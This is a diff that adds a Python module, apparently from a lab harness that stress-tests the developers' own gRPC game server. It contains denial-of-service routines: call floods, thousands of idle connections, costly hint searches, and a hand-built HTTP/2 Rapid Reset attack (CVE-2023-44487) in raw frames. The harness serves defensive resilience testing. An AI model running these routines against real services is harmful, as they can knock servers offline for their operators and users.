@@ -1,0 +1,359 @@
+"""The attacks of one caller. Each takes as much as it can get until its time is up."""
+
+import asyncio
+import contextlib
+import os
+import random
+import socket
+import struct
+import time
+from collections import Counter
+from collections.abc import Awaitable, Callable
+from typing import TypeVar
+
+import grpc
+from google.protobuf import text_format
+from google.rpc import error_details_pb2
+from grpc_status import rpc_status
+
+from croupier.v1 import game_pb2, hint_pb2, hint_pb2_grpc, match_pb2, match_pb2_grpc
+from lab.siege.places import Metadata, Place, channel, relayed
+
+SILENT = 3_000
+SELF_PLAYING = 1_000
+BOT_MATCHES = 300
+WATCHERS = 10_000
+STREAMS = 64
+HINTS = 500
+
+Outcomes = Counter[str]
+T = TypeVar("T")
+
+
+class Attacker:
+    """One caller, who keeps count of what became of its calls."""
+
+    def __init__(self, address: str, near: str, place: Place, seconds: float) -> None:
+        """`near` is an address from which calls reach the server from the place's host."""
+        self.address = address
+        self.near = near
+        self.place = place
+        self.end = time.monotonic() + seconds
+        self.outcomes: Outcomes = Counter()
+
+    @property
+    def going_on(self) -> bool:
+        """Whether there is time left."""
+        return time.monotonic() < self.end
+
+    @property
+    def metadata(self) -> Metadata:
+        """What is sent with every call."""
+        return self.place.metadata
+
+    def bearer(self, token: str) -> Metadata:
+        """The metadata of a call with a token."""
+        return (*self.metadata, ("authorization", f"Bearer {token}"))
+
+    async def call(self, call: Awaitable[T]) -> T | None:
+        """Counts what becomes of a call; a refusal is waited out for a moment."""
+        try:
+            answer = await call
+        except grpc.RpcError as error:
+            self.outcomes[_reason(error)] += 1
+            await asyncio.sleep(0.02)
+            return None
+        self.outcomes["answered"] += 1
+        return answer
+
+    async def until_end(self, work: Callable[[], Awaitable[object]], streams: int) -> None:
+        """Does something again and again, in several tasks."""
+
+        async def again() -> None:
+            while self.going_on:
+                await work()
+
+        with contextlib.suppress(TimeoutError):
+            async with asyncio.timeout(max(0.0, self.end - time.monotonic())):
+                await asyncio.gather(*(again() for _ in range(streams)))
+
+    async def create(
+        self, own: grpc.aio.Channel, **parameters: object
+    ) -> match_pb2.CreateMatchResponse | None:
+        """Creates a match."""
+        stub = match_pb2_grpc.MatchServiceStub(own)
+        request = match_pb2.CreateMatchRequest(**parameters)  # type: ignore[arg-type]
+        return await self.call(stub.CreateMatch(request, metadata=self.metadata, timeout=30))
+
+
+def _reason(error: grpc.RpcError) -> str:
+    assert isinstance(error, grpc.aio.AioRpcError)
+    with contextlib.suppress(ValueError):
+        status = rpc_status.from_call(error)  # type: ignore[arg-type]  # It is one in all but name.
+        for detail in status.details if status else ():
+            info = error_details_pb2.ErrorInfo()
+            if detail.Unpack(info):
+                return str(info.metadata.get("budget", "") or info.reason)
+    return str(error.code().name)
+
+
+def _ruleset(game: str, text: str = "") -> game_pb2.Ruleset:
+    ruleset = game_pb2.Ruleset()
+    getattr(ruleset, game).SetInParent()
+    if text:
+        text_format.Parse(text, getattr(ruleset, game))
+    return ruleset
+
+
+def _limits(seconds: float = 0, iterations: int = 0, threads: int = 0) -> hint_pb2.SearchLimits:
+    limits = hint_pb2.SearchLimits(iterations=iterations, threads=threads)
+    if seconds:
+        limits.time.FromMilliseconds(round(1000 * seconds))
+    return limits
+
+
+# The attacks
+
+
+async def self_playing_matches(attacker: Attacker) -> None:
+    """Creates matches that play themselves by default actions."""
+    control = {"per_decision": {"seconds": 1}, "on_expiry": "EXPIRY_POLICY_DEFAULT_ACTION"}
+    async with channel(attacker.near) as own:
+
+        async def create() -> None:
+            if attacker.outcomes["answered"] < SELF_PLAYING:
+                await attacker.create(own, ruleset=_ruleset("skystones"), time_control=control)
+            else:
+                await asyncio.sleep(0.1)
+
+        await attacker.until_end(create, STREAMS)
+
+
+async def _a_view(attacker: Attacker, own: grpc.aio.Channel) -> game_pb2.View | None:
+    created = await attacker.create(own, ruleset=_ruleset("skystones"))
+    if created is None:
+        return None
+    response = await match_pb2_grpc.MatchServiceStub(own).GetView(
+        match_pb2.GetViewRequest(match=created.match),
+        metadata=attacker.bearer(created.seat_tokens[0].token),
+        timeout=30,
+    )
+    view: game_pb2.View = response.view
+    return view
+
+
+async def _hints(
+    attacker: Attacker, limits: hint_pb2.SearchLimits, at_once: int, worlds: int = 0
+) -> None:
+    async with channel(attacker.near) as own:
+        view = await _a_view(attacker, own)
+        assert view is not None, attacker.outcomes
+        stub = hint_pb2_grpc.HintServiceStub(own)
+        request = hint_pb2.SuggestActionRequest(view=view, limits=limits, belief_worlds=worlds)
+
+        async def ask() -> None:
+            await attacker.call(
+                stub.SuggestAction(request, metadata=attacker.metadata, timeout=3600)
+            )
+
+        await attacker.until_end(ask, at_once)
+
+
+async def long_hints(attacker: Attacker) -> None:
+    """Asks for hints of a minute with 16 threads, a few at a time."""
+    await _hints(attacker, _limits(seconds=60, threads=16), 4)
+
+
+async def endless_hints(attacker: Attacker) -> None:
+    """Asks for hints of ten million iterations without a limit of time."""
+    await _hints(attacker, _limits(iterations=10_000_000, threads=16), 4)
+
+
+async def many_hints(attacker: Attacker) -> None:
+    """Keeps 500 hints of a second outstanding."""
+    await _hints(attacker, _limits(seconds=1), HINTS)
+
+
+async def large_beliefs(attacker: Attacker) -> None:
+    """Asks for beliefs from as many worlds as possible after a search of a millisecond."""
+    await _hints(attacker, _limits(seconds=0.001), STREAMS, 100_000)
+
+
+async def bot_matches(attacker: Attacker) -> None:
+    """Creates matches in which experts play experts."""
+    expert = match_pb2.SeatConfig(bot=match_pb2.Bot(strength=match_pb2.BOT_STRENGTH_EXPERT))
+    async with channel(attacker.near) as own:
+
+        async def create() -> None:
+            if attacker.outcomes["answered"] < BOT_MATCHES:
+                ruleset = _ruleset("castle_rampage")
+                await attacker.create(own, ruleset=ruleset, seats=[expert, expert])
+            else:
+                await asyncio.sleep(0.1)
+
+        await attacker.until_end(create, STREAMS)
+
+
+async def large_creations(attacker: Attacker) -> None:
+    """Creates matches with large decks as fast as it can."""
+    cards = " ".join(f"cards {{card: {card} copies: 6 move: 9}}" for card in range(1, 13))
+    ruleset = _ruleset("champion_chess", cards)
+    async with channel(attacker.near) as own:
+        await attacker.until_end(lambda: attacker.create(own, ruleset=ruleset), STREAMS)
+
+
+async def silent_connections(attacker: Attacker) -> None:
+    """Keeps connections open on which it says nothing."""
+    host, _, port = attacker.address.rpartition(":")
+    kept: list[asyncio.StreamWriter] = []
+    while attacker.going_on:
+        if len(kept) >= SILENT:
+            await asyncio.sleep(0.2)
+            for writer in [each for each in kept if each.is_closing()]:
+                kept.remove(writer)
+            continue
+        try:
+            _, writer = await asyncio.open_connection(
+                host, int(port), local_addr=(attacker.place.host, 0)
+            )
+            kept.append(writer)
+            attacker.outcomes["connected"] += 1
+        except OSError:
+            attacker.outcomes["not connected"] += 1
+            await asyncio.sleep(0.02)
+
+
+async def watchers(attacker: Attacker) -> None:
+    """Watches a match 10,000 times on one connection."""
+    async with channel(attacker.near) as own:
+        created = await attacker.create(own, ruleset=_ruleset("skystones"))
+        assert created is not None, attacker.outcomes
+        stub = match_pb2_grpc.MatchServiceStub(own)
+        request = match_pb2.WatchMatchRequest(match=created.match)
+        bearer = attacker.bearer(created.spectator_token)
+
+        async def watch() -> None:
+            call = stub.WatchMatch(request, metadata=bearer)
+            try:
+                async for _ in call:
+                    attacker.outcomes["watching"] += 1
+            except grpc.RpcError as error:
+                attacker.outcomes[_reason(error)] += 1
+                await asyncio.sleep(0.1)
+
+        await attacker.until_end(watch, WATCHERS)
+
+
+async def calls(attacker: Attacker) -> None:
+    """Gets a view as often as it can."""
+    async with channel(attacker.near) as own:
+        created = await attacker.create(own, ruleset=_ruleset("champion_chess"))
+        assert created is not None, attacker.outcomes
+        stub = match_pb2_grpc.MatchServiceStub(own)
+        request = match_pb2.GetViewRequest(match=created.match)
+        bearer = attacker.bearer(created.seat_tokens[0].token)
+        await attacker.until_end(
+            lambda: attacker.call(stub.GetView(request, metadata=bearer, timeout=30)), STREAMS
+        )
+
+
+async def stream_resets(attacker: Attacker) -> None:
+    """Opens streams on one connection and resets each at once (CVE-2023-44487)."""
+    await asyncio.to_thread(_reset_streams, attacker)
+
+
+_HEAD = struct.Struct(">BHBBI")  # Of a frame: its length in 24 bits, type, flags and stream.
+
+
+def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
+    return _HEAD.pack(len(body) >> 16, len(body) & 0xFFFF, kind, flags, stream) + body
+
+
+def _text(text: str) -> bytes:
+    data = text.encode()
+    return bytes([len(data)]) + data
+
+
+def _reset_streams(attacker: Attacker) -> None:
+    host, _, port = attacker.address.rpartition(":")
+    headers = b"\x83\x86\x04" + _text("/croupier.v1.CatalogService/ListGames")
+    headers += b"\x01" + _text(attacker.address) + b"\x0f\x10" + _text("application/grpc")
+    for name, value in attacker.metadata:
+        headers += b"\x00" + _text(name) + _text(value)
+    while attacker.going_on:
+        try:
+            with socket.create_connection(
+                (host, int(port)), timeout=5, source_address=(attacker.place.host, 0)
+            ) as connection:
+                _reset_on(connection, headers, attacker)
+        except OSError:
+            attacker.outcomes["connections closed"] += 1
+
+
+def _reset_on(connection: socket.socket, headers: bytes, attacker: Attacker) -> None:
+    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
+    connection.setblocking(False)
+    pending = b""
+    for stream in range(1, 1 << 30, 2):
+        if not attacker.going_on:
+            return
+        pending += _frame(1, 4, stream, headers) + _frame(0, 1, stream, bytes(5))
+        pending += _frame(3, 0, stream, struct.pack(">I", 8))
+        attacker.outcomes["resets"] += 1
+        if len(pending) < 1 << 15:
+            continue
+        connection.setblocking(True)
+        connection.sendall(pending)
+        pending = b""
+        connection.setblocking(False)
+        with contextlib.suppress(BlockingIOError):
+            while data := connection.recv(1 << 16):
+                pending += _answers(data)
+
+
+def _answers(data: bytes) -> bytes:
+    # Acknowledges settings and pings that begin in this piece; what it misses, the server forgives.
+    answers, at = b"", 0
+    while len(data) - at >= _HEAD.size:
+        high, low, kind, flags, _ = _HEAD.unpack_from(data, at)
+        end = at + _HEAD.size + (high << 16 | low)
+        if kind in (4, 6) and not flags & 1:
+            answers += _frame(kind, 1, 0, data[at + _HEAD.size : end] if kind == 6 else b"")
+        at = end
+    return answers
+
+
+ATTACKS: dict[str, Callable[[Attacker], Awaitable[None]]] = {
+    each.__name__: each
+    for each in (
+        self_playing_matches,
+        long_hints,
+        endless_hints,
+        many_hints,
+        large_beliefs,
+        bot_matches,
+        large_creations,
+        silent_connections,
+        stream_resets,
+        watchers,
+        calls,
+    )
+}
+
+
+def attack(name: str, address: str, place: Place, seconds: float) -> Outcomes:
+    """Attacks for so many seconds; returns what became of the calls.
+
+    Lowers the priority of the process: an attacker has processors of its own, so here it may use
+    only what the server leaves.
+    """
+    os.setpriority(os.PRIO_PROCESS, 0, 19)
+
+    async def run() -> Outcomes:
+        random.seed(name)
+        async with relayed(address, place) as near:
+            attacker = Attacker(address, near, place, seconds)
+            await ATTACKS[name](attacker)
+        return attacker.outcomes
+
+    return asyncio.run(run())
